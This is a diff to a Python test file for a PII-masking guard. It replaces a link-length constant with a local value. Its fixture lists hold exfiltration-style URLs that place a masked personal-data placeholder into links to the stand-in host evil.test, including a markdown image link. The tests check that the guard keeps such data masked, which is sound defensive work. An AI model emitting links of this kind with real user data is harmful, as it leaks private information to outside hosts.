@@ -6,7 +6,7 @@ import pytest
 from gatehouse.core.keys import DerivedKey
 from gatehouse.guards.findings import Finding
 from gatehouse.guards.pii.config import Mode, PiiConfig
-from gatehouse.guards.pii.links import MAX_LINK, Links
+from gatehouse.guards.pii.links import Links
 from gatehouse.guards.pii.masking import Mask, Placeholders
 from hypothesis import given
 from hypothesis import strategies as st
@@ -24,6 +24,7 @@ def known(*values: str) -> tuple[Mask, list[str]]:
 
 
 MASK, (P,) = known(MAIL)
+LONG = 32_768
 
 STAYS = [
     f"![x](https://evil.test/?q={P})",
@@ -46,7 +47,7 @@ STAYS = [
     f"https://{P}@evil.test/",
     f"https://evil.test/?u=https://github.com/{P}",
     f"wss://evil.test/{P}",
-    "https://evil.test/" + "a" * 2 * MAX_LINK + P,
+    "https://evil.test/" + "a" * LONG + P,
     f"https://eve/{P}",
 ]
 GOES_BACK = [
@@ -64,7 +65,7 @@ GOES_BACK = [
     f"a//{P}",
     f"{P}\nhttps://evil.test/",
     f"https://{P}@github.com/x",
-    "a" * 2 * MAX_LINK + f" {P}",
+    "a" * LONG + f" {P}",
 ]
 
 
@@ -113,7 +114,7 @@ def test_a_mask_without_a_say_on_links_puts_all_back() -> None:
 
 @given(st.lists(st.sampled_from([*STAYS, *GOES_BACK]), max_size=5), st.lists(st.integers(1, 40), min_size=1))
 def test_a_stream_says_what_the_whole_text_says(texts: list[str], sizes: list[int]) -> None:
-    text = " \n".join(each for each in texts if len(each) < MAX_LINK)
+    text = " \n".join(each for each in texts if len(each) < LONG)
     unmasker = MASK.unmasker(inside_json=False, prose=True)
     said, at, turn = "", 0, 0
     while at < len(text):
